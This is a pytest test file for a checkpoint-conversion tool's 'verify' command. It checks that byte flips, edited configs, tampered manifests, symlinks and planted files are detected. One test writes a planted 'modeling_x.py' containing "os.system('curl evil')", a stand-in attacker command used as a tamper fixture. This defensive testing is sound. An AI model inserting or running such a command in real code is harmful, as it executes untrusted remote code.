"""`verify` passes on a good conversion and fails, saying why, on every kind of damage."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from moeconv.checkpoint.reader import open_checkpoint
from moeconv.conversion import convert
from moeconv.errors import MoeconvError
from moeconv.plan import make_plan
from moeconv.synth import SynthSpec, make_checkpoint
from moeconv.kernels.runners import NUMERICS_TOLERANCE
from moeconv.verification import verify

from helpers import cli, reseal, tree

LAYER = "model.layers.1.mlp.experts"


@pytest.fixture(scope="module")
def converted(tmp_path_factory) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("verify")
    source = make_checkpoint(root / "src", SynthSpec(layers=2, experts=4, hidden=128, intermediate=64),
                             max_shard_size=200_000)
    convert(make_plan(source, max_shard_size=200_000), root / "out")
    return source, root / "out"


@pytest.fixture
def damaged(converted, tmp_path) -> tuple[Path, Path]:
    """A private copy of the converted folder, to break."""
    source, out = converted
    copy = tmp_path / "out"
    copy.mkdir()
    for path in out.iterdir():
        (copy / path.name).write_bytes(path.read_bytes())
    return source, copy


def _flip_byte(folder: Path, tensor: str, expert: int, offset: int = 0, mask: int = 0x01,
               update_manifest: bool = True) -> None:
    """XOR one byte of one expert's slice; optionally re-sign the manifest so that only the
    lossless or numerics level can notice (a converter that is consistent but wrong)."""
    entry = open_checkpoint(folder).tensors[tensor]
    position = entry.begin + expert * (entry.nbytes // entry.shape[0]) + offset
    with open(entry.file, "r+b") as handle:
        handle.seek(position)
        value = handle.read(1)[0]
        handle.seek(position)
        handle.write(bytes([value ^ mask]))
    if update_manifest:
        reseal(folder, entry.file)


def test_good_conversion_passes(converted):
    source, out = converted
    report = verify(out)
    assert report.ok, report.failures()
    assert report.source == str(source.absolute())
    assert [layer.experts_exact for layer in report.layers] == [4, 4]
    assert report.passthrough_checked > 0
    for layer in report.layers:
        assert layer.relative_error is not None and layer.relative_error < NUMERICS_TOLERANCE


def test_good_conversion_cli_json_and_exit_0(converted):
    _, out = converted
    result = cli("verify", out, "--json", "--sample", "2")
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert report["ok"] is True and all(layer["experts_checked"] == 2 for layer in report["layers"])


@pytest.mark.parametrize("tensor, expert, offset, mask, expected", [
    (f"{LAYER}.w13_qweight", 2, 5, 0x10, "expert 2 gate: codes: 1 byte(s) differ"),
    (f"{LAYER}.w2_qweight", 3, 0, 0x01, "expert 3 down: codes: 1 byte(s) differ"),
    (f"{LAYER}.w13_scales", 1, 1, 0x04, "expert 1 gate: scales: 1 byte(s) differ"),
    (f"{LAYER}.w2_qzeros", 0, 0, 0x01, "expert 0 down: zeros: 1 byte(s) differ"),
])
def test_one_changed_byte_fails_lossless(damaged, tensor, expert, offset, mask, expected):
    _, out = damaged
    _flip_byte(out, tensor, expert, offset, mask)
    report = verify(out, level="lossless")
    assert not report.ok
    assert any(expected in failure for failure in report.failures()), report.failures()


def test_changed_weight_byte_also_fails_numerics(damaged):
    """The kernel reads the converted bytes, the reference reads the source: a large corruption of a
    routed expert's weights shows up as a relative error far above the tolerance."""
    _, out = damaged
    for expert in range(4):
        for offset in range(0, 64 * 64, 7):
            _flip_byte(out, f"{LAYER}.w13_qweight", expert, offset, 0x88, update_manifest=False)
    entry = open_checkpoint(out).tensors[f"{LAYER}.w13_qweight"]
    reseal(out, entry.file)
    report = verify(out)
    layer = next(layer for layer in report.layers if layer.module == LAYER)
    assert layer.relative_error > NUMERICS_TOLERANCE
    assert not report.ok


def test_file_bytes_differ_from_manifest(damaged):
    _, out = damaged
    _flip_byte(out, f"{LAYER}.w2_scales", 0, update_manifest=False)
    result = cli("verify", out)
    assert isinstance(result.exception, MoeconvError) and result.exception.exit_code == 1
    assert "digest or size differs from moeconv.json" in str(result.exception)


def test_a_changed_byte_is_named_by_its_tensor(damaged):
    """The per-tensor digests name the tensor whose bytes changed, beside the shard's digest."""
    _, out = damaged
    _flip_byte(out, f"{LAYER}.w2_scales", 0, update_manifest=False)
    shard = open_checkpoint(out).tensors[f"{LAYER}.w2_scales"].file.name
    assert verify(out, level="structure").structure_problems == [
        f"{shard}: digest or size differs from moeconv.json",
        f"{shard}: tensor {LAYER}.w2_scales: its bytes differ from moeconv.json's digest"]


def test_a_wrong_tensor_digest_in_a_resealed_manifest_fails_structure(damaged):
    """A manifest whose file digests are right but one tensor digest is not (what the plugin would then
    refuse at load) fails verify's structure level, naming the file and the tensor."""
    _, out = damaged
    name = f"{LAYER}.w13_qweight"
    shard = open_checkpoint(out).tensors[name].file.name
    reseal(out, edit=lambda m: m["files"][shard]["tensor_digests"].update({name: "0" * 64}))
    report = verify(out, level="structure")
    assert report.structure_problems == [f"{shard}: tensor {name}: its bytes differ from moeconv.json's digest"]
    reseal(out, edit=lambda m: [m.pop("manifest_version")] + [f.pop("tensor_digests") for f in m["files"].values()])
    assert verify(out, level="structure").structure_problems == [
        "moeconv.json: manifest_version None, not 3 or 4 (files -> shard -> blake3_header_and_tensors, made of its "
        "tensor_digests; written by an older moeconv); convert again"]
    # a version 2 manifest (a shard's digest over its 64 MiB blocks, beside its tensors'): the same one line
    reseal(out, edit=lambda m: m.update({"manifest_version": 2}))
    assert verify(out, level="structure").structure_problems == [
        "moeconv.json: manifest_version 2, not 3 or 4 (files -> shard -> blake3_header_and_tensors, made of its "
        "tensor_digests; written by an older moeconv); convert again"]


def test_missing_tensor_fails_structure(damaged):
    _, out = damaged
    index = json.loads((out / "model.safetensors.index.json").read_text())
    file_name = index["weight_map"].pop(f"{LAYER}.w13_qzeros")
    from safetensors.torch import load_file, save_file

    tensors = load_file(out / file_name)
    del tensors[f"{LAYER}.w13_qzeros"]
    save_file(tensors, out / file_name)
    (out / "model.safetensors.index.json").write_text(json.dumps(index))
    report = verify(out)
    assert f"tensor {LAYER}.w13_qzeros is missing" in report.failures()
    assert not report.ok


def test_changed_passthrough_tensor_fails(damaged):
    _, out = damaged
    entry = open_checkpoint(out).tensors["model.embed_tokens.weight"]
    with open(entry.file, "r+b") as handle:
        handle.seek(entry.begin)
        handle.write(b"\x00\x00\x00\x00")
    reseal(out, entry.file)
    report = verify(out, level="lossless")
    assert any("model.embed_tokens.weight differs from the source" in f for f in report.failures())


def test_config_disagreeing_with_conversion_fails(damaged):
    _, out = damaged
    config = json.loads((out / "config.json").read_text())
    config["quantization_config"]["has_zp"] = False
    (out / "config.json").write_text(json.dumps(config))
    report = verify(out, level="lossless")
    assert "config.json: quantization_config does not describe this conversion" in report.failures()


def test_verify_against_a_different_source_fails(damaged, tmp_path):
    _, out = damaged
    other = make_checkpoint(tmp_path / "other", SynthSpec(layers=2, experts=4, hidden=128, intermediate=64, seed=7))
    with pytest.raises(MoeconvError, match="other: not the source .*out was made from") as refusal:
        verify(out, source=other, level="lossless")
    assert "\n" not in str(refusal.value)


def test_not_a_moeconv_output(tmp_path):
    result = cli("verify", tmp_path)
    assert isinstance(result.exception, MoeconvError) and result.exception.exit_code == 2
    assert str(result.exception) == f"{tmp_path}: no moeconv.json: not a folder written by `moeconv convert`"
    result = cli("verify", tmp_path / "missing")
    assert str(result.exception) == f"{tmp_path / 'missing'}: not a folder (give the folder `moeconv convert -o` wrote)"


def test_levels_stop_where_asked(damaged):
    """--level structure checks files and checksums only (a consistent but wrong byte passes it, the
    lossless level catches it); lossless runs no kernel; an unknown level is a one-line error."""
    source, out = damaged
    _flip_byte(out, f"{LAYER}.w13_qweight", expert=2)
    structure = verify(out, level="structure")
    assert structure.ok and not structure.layers and structure.passthrough_checked == 0
    lossless = verify(out, level="lossless")
    assert not lossless.ok and all(layer.relative_error is None for layer in lossless.layers)
    result = cli("verify", out, "--level", "everything")
    assert result.exit_code != 0
    with pytest.raises(MoeconvError, match="verify level 'everything' is not one of structure, lossless, numerics"):
        verify(out, level="everything")


# ------------------------------------------------------------------------------ what verify cannot be fooled by


def _edit_config(folder: Path, edit) -> None:
    config = json.loads((folder / "config.json").read_text())
    edit(config)
    (folder / "config.json").write_text(json.dumps(config, indent=2))


@pytest.mark.parametrize("field, value", [
    ("num_experts_per_tok", 1), ("hidden_act", "gelu"), ("rms_norm_eps", 1e-3), ("rope_theta", 10.0),
    ("num_hidden_layers", 1), ("auto_map", {"AutoModelForCausalLM": "modeling_x.X"}),
])
def test_an_edited_config_fails_naming_the_field(damaged, field, value):
    """An edit of config.json beyond the quantization block: the digest check names the file; with the
    manifest rewritten to match, the field-by-field comparison with the source's config names the field."""
    _, out = damaged
    _edit_config(out, lambda config: config.update({field: value}))
    report = verify(out, level="structure")
    assert "config.json: digest or size differs from moeconv.json" in report.failures()
    reseal(out, out / "config.json")
    report = verify(out, level="structure")
    assert report.failures() == [f"config.json: field {field} differs from what the source's config.json gives"]
    assert not report.proven


@pytest.mark.parametrize("have, want, found", [
    ({"a": 1, "b": [1, {"c": "x"}]}, {"b": [1, {"c": "x"}], "a": 1}, None),  # key order is no difference
    ({"a": 1}, {"a": 1.0}, "a"), ({"a": True}, {"a": 1}, "a"), ({"a": 0}, {"a": False}, "a"),  # JSON types
    ({"a": {"b": [1, 2]}}, {"a": {"b": [1, 3]}}, "a.b[1]"), ({"a": 1}, {"a": 1, "c": 0}, "c"),
    ({"a": [1, 2]}, {"a": [1]}, "a"), ({"a": "1"}, {"a": 1}, "a"),
    ({"a": [1, 2], "3": 4}, {"a": (1, 2), 3: 4}, None),  # the plan's tuples and integer keys, as written
    ({"a": [1, 2], "3": 4}, {"a": (1, 5), 3: 4}, "a[1]"),
])
def test_a_json_file_is_compared_field_by_field_with_its_types(have, want, found):
    """`structure._field_problems`: equal values pass (through the serializations, at once), and a difference,
    of a value or only of its JSON type (true against 1, 1 against 1.0), is named by its path; the expected
    side is compared as the JSON it is written as."""
    from moeconv.verification.structure import _field_problems

    expected = [] if found is None else [f"x.json: field {found} differs from y"]
    assert _field_problems("x.json", have, want, "y") == expected


def test_added_remote_code_and_a_rewritten_or_deleted_side_file_fail(damaged):
    source, out = damaged
    (out / "modeling_x.py").write_text("import os; os.system('curl evil')")
    (out / "generation_config.json").write_text('{"temperature": 9.0}')
    (out / "tokenizer_config.json").unlink()
    failures = verify(out, level="structure").failures()
    assert "modeling_x.py: in the output folder but not written by the conversion (not in moeconv.json)" in failures
    assert "generation_config.json: digest or size differs from moeconv.json" in failures
    assert "tokenizer_config.json: listed in moeconv.json but missing" in failures
    # An attacker who also rewrites the manifest: the copied files are compared with the source's.
    reseal(out, out / "generation_config.json", edit=lambda m: (
        m["copied_files"].pop("tokenizer_config.json"),
        m["copied_files"].update({"modeling_x.py": {"bytes": 0, "sha256_64mib_blocks": ""}})))
    reseal(out, out / "modeling_x.py")
    failures = verify(out, level="structure").failures()
    assert failures == [
        f"generation_config.json: differs from the source's {(source / 'generation_config.json').resolve()}",
        "tokenizer_config.json: a file of the source that the output lacks (not in moeconv.json)",
        "modeling_x.py: copied into the output, but the source has no such file to copy"], failures


def test_a_tampered_source_copy_fails(converted, tmp_path):
    """verify without --source reads the source the manifest names: a copy of it changed in step with
    the output (same headers, a weight byte flipped in both, the output's manifest rewritten) fails on
    the source shard digests recorded while the conversion read the source."""
    import shutil

    source, out = converted
    copy_source, copy_out = tmp_path / "src", tmp_path / "out"
    shutil.copytree(source, copy_source, symlinks=True)
    shutil.copytree(out, copy_out)
    name = "model.embed_tokens.weight"
    changed = []
    for folder in (copy_source, copy_out):
        entry = open_checkpoint(folder).tensors[name]
        with open(entry.file, "r+b") as handle:
            handle.seek(entry.begin)
            byte = handle.read(1)[0]
            handle.seek(entry.begin)
            handle.write(bytes([byte ^ 0xFF]))
        changed.append(entry)
    reseal(copy_out, changed[1].file, edit=lambda m: m["source"].update(path=str(copy_source)))
    report = verify(copy_out, level="lossless")
    assert report.passthrough_problems == []  # the output equals its (tampered) source
    assert report.source_problems == [f"{changed[0].file}: the source shard's data differs from what the "
                                      f"conversion read (its digest in moeconv.json)"]
    assert not report.ok and "lossless" not in report.proven


def test_the_report_says_what_was_proven_at_each_level(converted):
    _, out = converted
    structure = verify(out, level="structure")
    assert list(structure.proven) == ["structure"] and structure.to_json()["level"] == "structure"
    lossless = verify(out, level="lossless").to_json()
    assert list(lossless["proven"]) == ["structure", "lossless"] and lossless["source_files_checked"] > 1
    assert any("every source shard hashes to the digest recorded" in claim for claim in lossless["proven"]["lossless"])
    full = verify(out, numerics_layers=1)
    assert list(full.proven) == ["structure", "lossless", "numerics"]


def test_a_damaged_manifest_is_a_failed_verification(damaged, capsys):
    """A manifest that is not JSON, or whose content no longer matches its own digest: exit 1, naming it."""
    from helpers import run_main

    _, out = damaged
    text = (out / "moeconv.json").read_text()
    (out / "moeconv.json").write_text(text.replace('"tool": "moeconv"', '"tool": "moeconw"'))
    report = verify(out, level="structure")
    assert report.failures() == ["moeconv.json: its content differs from its own recorded digest "
                                 "(changed after the conversion)"]
    (out / "moeconv.json").write_text(text[:-10])
    code, out_text, err = run_main(capsys, "verify", out, "--level", "structure")
    assert code == 1 and "moeconv.json: not valid JSON" in err, err


def _immaterial(before: bytes, after: bytes) -> bool:
    """A change that provably means nothing: the file is JSON and reads the same (a whitespace byte)."""
    try:
        return json.loads(before) == json.loads(after)
    except ValueError:
        return False


@pytest.mark.timeout(300)
def test_any_single_byte_change_in_the_output_fails_verify(converted, tmp_path_factory, capsys):
    """Property: one byte of any file of an output folder XORed with a random mask makes `verify
    --source` exit 1 with a report naming the file, unless the change is immaterial JSON whitespace."""
    import os

    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    from helpers import run_main

    source, out = converted
    names = sorted(path.name for path in out.iterdir())

    @settings(max_examples=int(os.environ.get("MOECONV_BYTE_CHANGES", "12")), deadline=None,
              suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
    @given(name=st.sampled_from(names), where=st.floats(0, 1, exclude_max=True), mask=st.integers(1, 255))
    def check(name, where, mask):
        folder = tmp_path_factory.mktemp("changed") / "out"
        folder.mkdir()
        for path in out.iterdir():
            (folder / path.name).write_bytes(path.read_bytes())
        data = bytearray((out / name).read_bytes())
        position = int(where * len(data))
        data[position] ^= mask
        (folder / name).write_bytes(data)
        code, stdout, err = run_main(capsys, "verify", folder, "--source", source, "--level", "lossless",
                                     "--json", "-q")
        if code == 0:
            assert _immaterial((out / name).read_bytes(), bytes(data)), (name, position, mask)
            return
        assert code == 1, (name, position, mask, err)
        report = json.loads(stdout)
        assert any(name in problem for problem in report["structure_problems"]), (name, report["structure_problems"])

    check()


def test_the_digests_run_beside_the_planning(converted, monkeypatch):
    """The digests need no plan: they have begun before the plan is made (on a large checkpoint the planning
    takes seconds), and their progress still lands in the lossless phase's count."""
    import threading

    from moeconv.verification import prepare, structure

    began = threading.Event()
    digests, planned = structure.digests, prepare.make_plan

    def digests_starting(*args):
        began.set()
        return digests(*args)

    def plan_after_the_digests(*args, **kwargs):
        assert began.wait(30), "the plan was asked for before the digests began"
        return planned(*args, **kwargs)

    monkeypatch.setattr(structure, "digests", digests_starting)
    monkeypatch.setattr(prepare, "make_plan", plan_after_the_digests)
    totals, done = {}, {}

    def progress(amount, total=None, phase=None):
        if phase is not None:
            totals[phase], done[phase] = total, 0
            progress.phase = phase
        done[progress.phase] += amount

    report = verify(converted[1], level="lossless", workers=2, progress=progress)
    assert report.ok and "lossless" in report.proven
    assert done["lossless"] == totals["lossless"] > 0


def test_a_failed_plan_stops_the_early_digests(converted, monkeypatch):
    import threading
    import time

    from moeconv.verification import prepare, structure

    def refused(*args, **kwargs):
        raise MoeconvError("refused by the test")

    def endless(output, manifest, entries, checkpoint, anchor, advance, seconds, cancelled):  # until cancelled
        while not cancelled.is_set():
            advance(0)
            time.sleep(0.01)

    monkeypatch.setattr(prepare, "make_plan", refused)
    monkeypatch.setattr(structure, "digests", endless)
    with pytest.raises(MoeconvError, match="refused by the test"):
        verify(converted[1], level="lossless", workers=2)
    deadline = time.monotonic() + 30
    while any(thread.name == "moeconv-digests" for thread in threading.enumerate()) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not any(thread.name == "moeconv-digests" for thread in threading.enumerate())


@pytest.mark.parametrize("backend", ["triton", "compressed-tensors"])
def test_a_stated_shape_that_disagrees_fails_in_the_numpy_decoding(tmp_path, backend):
    """compressed-tensors states each linear's [N, K] (weight_shape, I64), which its decoding checks: a
    dense linear's (written in that layout beside either backend's experts), changed and resealed, fails the
    lossless level, naming the linear, through verify's numpy decoding."""
    source = make_checkpoint(tmp_path / "src", SynthSpec(layers=1, experts=4, hidden=128, intermediate=64))
    plan = make_plan(source, backend=backend)
    convert(plan, tmp_path / "out")
    name = next(name for name in open_checkpoint(tmp_path / "out").tensors
                if name.endswith(".weight_shape") and ".experts." not in name)
    _flip_byte(tmp_path / "out", name, expert=0, offset=0, mask=0x01)  # N (little-endian I64) + 1 or - 1
    failures = verify(tmp_path / "out", level="lossless").failures()
    assert any(name.removesuffix(".weight_shape") in failure and "weight_shape says" in failure
               for failure in failures), failures


V3_OUTPUT = Path(__file__).parent / "data" / "manifest_v3"
V3_LAYER = "model.layers.0.mlp.experts"


def test_an_output_of_manifest_version_3_still_verifies_and_still_catches_a_flipped_byte(tmp_path):
    """An output written by the last moeconv of manifest version 3 (sha256 block digests; made by that
    moeconv, tests/data/manifest_v3/README.md) passes every level, read with the digests it records; a
    flipped tensor byte fails at structure, naming the shard and the tensor."""
    import shutil

    source, out = tmp_path / "source", tmp_path / "output"
    shutil.copytree(V3_OUTPUT / "source", source)
    shutil.copytree(V3_OUTPUT / "output", out)
    assert json.loads((out / "moeconv.json").read_text())["manifest_version"] == 3
    report = verify(out, source=source, level="lossless")
    assert report.ok, report.failures()
    shard = out / "model-00001-of-00001.safetensors"
    entry = open_checkpoint(out).tensors[f"{V3_LAYER}.w13_qweight"]
    data = bytearray(shard.read_bytes())
    data[entry.begin] ^= 1
    shard.write_bytes(bytes(data))
    assert verify(out, source=source, level="structure").structure_problems == [
        f"{shard.name}: digest or size differs from moeconv.json",
        f"{shard.name}: tensor {V3_LAYER}.w13_qweight: its bytes differ from moeconv.json's digest"]


# ------------------------------------------------------------------------------ numerics: every expert, and its caveats


@pytest.fixture(scope="module")
def nan_scaled(tmp_path_factory) -> tuple[Path, Path]:
    """32 experts a layer (the default 8 tokens at top-2 could reach 16 at most), expert 5's up scales of
    layer 0 NaN and infinite in the source: converted as they are."""
    import torch

    root = tmp_path_factory.mktemp("nan-scales")
    source = make_checkpoint(root / "src", SynthSpec(layers=2, experts=32, hidden=128, intermediate=64))
    entry = open_checkpoint(source).tensors["model.layers.0.mlp.experts.5.up_proj.scales"]
    with open(entry.file, "r+b") as handle:
        handle.seek(entry.begin)
        handle.write(torch.tensor([float("nan"), float("inf")], dtype=torch.float16).numpy().tobytes())
    convert(make_plan(source), root / "out")
    return source, root / "out"


def test_covering_routing_gives_every_expert_a_token():
    import torch

    from moeconv.kernels.reference import covering_routing

    experts = [0, 3, 4, 7, 9, 10, 30]
    weights, ids = covering_routing(2, 32, 2, torch.Generator().manual_seed(1), experts)
    assert ids.shape == weights.shape == (4, 2)  # ceil(7 / 2) tokens, more than the 2 asked for
    assert set(experts) <= set(ids.flatten().tolist())
    assert all(len(set(row)) == 2 for row in ids.tolist())  # a token's experts are distinct
    assert torch.allclose(weights.sum(dim=-1), torch.ones(4))


def test_numerics_reaches_every_expert_and_fails_on_nan_scales_naming_the_expert(nan_scaled, capsys):
    from helpers import run_main

    _, out = nan_scaled
    report = verify(out)  # the default 8 tokens
    assert not report.ok
    assert report.failures() == ["model.layers.0.mlp.experts: numerics: expert 5 up: the source's scales are NaN or "
                                 "infinite (converted as they are): no kernel can compute with them"]
    assert [(layer.experts_routed, layer.experts) for layer in report.layers] == [(32, 32), (32, 32)]
    assert report.layers[1].relative_error < NUMERICS_TOLERANCE
    code, stdout, _ = run_main(capsys, "verify", out, "--level", "numerics", "--json", "-q")
    assert code == 1 and [layer["experts_routed"] for layer in json.loads(stdout)["layers"]] == [32, 32]


def test_a_lossless_pass_over_nan_scales_says_so_in_its_verdict(nan_scaled, capsys):
    from helpers import run_main

    _, out = nan_scaled
    code, stdout, err = run_main(capsys, "verify", out, "--level", "lossless", "-q")
    caveat = ("2 NaN or infinite scales in the source (first: model.layers.0.mlp.experts.5.up_proj), converted as they "
              "are: no kernel can compute with them")
    assert code == 0, err
    assert stdout.strip().splitlines()[-1].endswith(f"; --level lossless); caveat: {caveat}"), stdout
    assert verify(out, level="lossless").to_json()["caveats"] == [caveat]


def test_the_kernel_checks_warnings_stay_off_stderr(damaged):
    """Output scales made infinite (manifest resealed): the Triton interpreter computes with them and numpy
    warns; stderr holds verify's own lines only, the failures and the summary."""
    import os
    import subprocess
    import sys

    _, out = damaged
    entry = open_checkpoint(out).tensors[f"{LAYER}.w13_scales"]
    with open(entry.file, "r+b") as handle:
        handle.seek(entry.begin)
        handle.write(b"\x00\x7c" * 4)  # float16 inf, expert 0: inf times a zero code is NaN, which numpy warns of
    reseal(out, entry.file)
    done = subprocess.run([sys.executable, "-m", "moeconv", "verify", str(out), "-q"], capture_output=True, text=True,
                          env={**os.environ, "PYTHONWARNINGS": "default"}, timeout=300)
    assert done.returncode == 1
    lines = done.stderr.strip().splitlines()
    assert f"x {LAYER}: numerics: the kernel's output is NaN or infinite (the reference's is finite)" in lines, lines
    assert all(line.startswith(("x ", "error: ")) for line in lines), lines


# ------------------------------------------------------------------------------ what verify reads of the manifest


@pytest.mark.parametrize("name", ["moeconv.json", "config.json", "model.safetensors.index.json"])
def test_a_file_of_the_output_that_is_a_link_is_refused_without_reading_its_target(damaged, tmp_path, monkeypatch,
                                                                                    capsys, name):
    import builtins
    import os

    from helpers import run_main
    from moeconv.checkpoint import manifest as manifests

    converted_source, out = damaged
    target = tmp_path / "secret"
    target.write_text("not json: the secret")
    (out / name).unlink()
    (out / name).symlink_to(target)
    opened = []
    real_open, real_builtin_open = os.open, builtins.open
    monkeypatch.setattr(os, "open", lambda path, *a, **k: opened.append(Path(path).resolve()) or real_open(path, *a, **k))
    monkeypatch.setattr(builtins, "open",
                        lambda path, *a, **k: opened.append(Path(path).resolve()) or real_builtin_open(path, *a, **k))
    before, source = tree(tmp_path), tree(converted_source)
    code, stdout, err = run_main(capsys, "verify", out)
    assert code == 1 and target not in opened and "secret" not in stdout + err
    assert tree(tmp_path) == before and tree(converted_source) == source  # the output, the link's target, the source
    assert [line for line in err.splitlines() if line.startswith("x ")] == [
        f"x {name}: a link, not a file the conversion wrote; verify reads nothing through it"]
    if name == "moeconv.json":  # what the vLLM plugin's on-load check reads too
        with pytest.raises(MoeconvError, match=r"moeconv.json: a link, not the file `moeconv convert` wrote"):
            manifests.read(out)
        assert target not in opened


def test_a_relative_source_path_is_relative_to_the_output_folder(converted, tmp_path, monkeypatch):
    import shutil

    source, out = converted
    shutil.copytree(source, tmp_path / "pair" / "src", symlinks=True)
    shutil.copytree(out, tmp_path / "pair" / "out")
    reseal(tmp_path / "pair" / "out", edit=lambda manifest: manifest["source"].update(path="../src"))
    (tmp_path / "elsewhere" / "cwd").mkdir(parents=True)
    monkeypatch.chdir(tmp_path / "elsewhere" / "cwd")  # where ../src is no folder
    report = verify(tmp_path / "pair" / "out", level="lossless")
    assert report.ok, report.failures()
    assert report.source == str(tmp_path / "pair" / "src")


@pytest.mark.parametrize("recorded", [{"path": "acme/absent-moe"},
                                      {"path": "/nowhere/snapshots/" + "0" * 40, "repo": "acme/absent-moe",
                                       "revision": "0" * 40}])
def test_a_hub_id_in_the_manifest_is_never_downloaded(damaged, tmp_path, monkeypatch, capsys, recorded):
    """Only `--source ID` downloads: the manifest's Hub id is looked up in the local cache (here an empty
    one), and any connection fails the test."""
    import socket

    import huggingface_hub.constants

    from helpers import run_main

    def no_network(*args, **kwargs):
        raise AssertionError("verify went to the network")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    monkeypatch.setattr(huggingface_hub.constants, "HF_HUB_CACHE", str(tmp_path / "empty-cache"))
    monkeypatch.delenv("HF_HUB_OFFLINE", raising=False)
    _, out = damaged
    reseal(out, edit=lambda manifest: manifest["source"].update(recorded))
    before = tree(tmp_path)
    code, _, err = run_main(capsys, "verify", out, "--level", "lossless")
    assert code == 2
    assert tree(tmp_path) == before  # no cache folder made, the output as it was
    assert err.strip() == (f"error: {out / 'moeconv.json'}: the source is the Hub id acme/absent-moe, not in the local "
                           f"Hugging Face cache; verify downloads only when asked: pass --source acme/absent-moe")


def _swap_data_offsets(folder: Path) -> None:
    """Two tensors of one shard with the same dtype and shape but other bytes trade their `data_offsets` (the
    header keeps its length), and every digest is recomputed: each name now reads the other's bytes."""
    for shard in sorted(folder.glob("*.safetensors")):
        data = shard.read_bytes()
        length = int.from_bytes(data[:8], "little")
        header = json.loads(data[8:8 + length])
        entries = [info for name, info in sorted(header.items()) if name != "__metadata__"]
        for i, one in enumerate(entries):
            for other in entries[i + 1:]:
                a, b = (data[8 + length + x["data_offsets"][0]:8 + length + x["data_offsets"][1]] for x in (one, other))
                if (one["dtype"], one["shape"]) == (other["dtype"], other["shape"]) and a != b:
                    one["data_offsets"], other["data_offsets"] = other["data_offsets"], one["data_offsets"]
                    text = json.dumps(header, separators=(",", ":")).encode()
                    assert len(text) <= length
                    shard.write_bytes(data[:8] + text.ljust(length) + data[8 + length:])
                    reseal(folder, shard)
                    return
    raise AssertionError("no two tensors of one shard share a dtype and shape")


@pytest.mark.parametrize("tamper", ["a flipped expert byte", "swapped data_offsets"])
def test_structure_alone_says_it_is_self_consistency(damaged, capsys, tamper):
    """A flipped expert byte, or two tensors' data_offsets swapped, with every digest recomputed passes
    --level structure, whose verdict says what that proves (docs/FORMAT.md names both); lossless catches it."""
    from helpers import run_main

    _, out = damaged
    if tamper == "a flipped expert byte":
        _flip_byte(out, f"{LAYER}.w13_qweight", expert=2)
    else:
        _swap_data_offsets(out)
    code, stdout, _ = run_main(capsys, "verify", out, "--level", "structure", "-q")
    assert code == 0
    assert stdout.strip().splitlines()[-1] == (
        "verdict: ok (structure and digests; source not anchored (a local folder); --level structure); caveat: the "
        "tensors' bytes are self-consistent; not compared with the source (--level lossless compares them)")
    assert not verify(out, level="lossless").ok
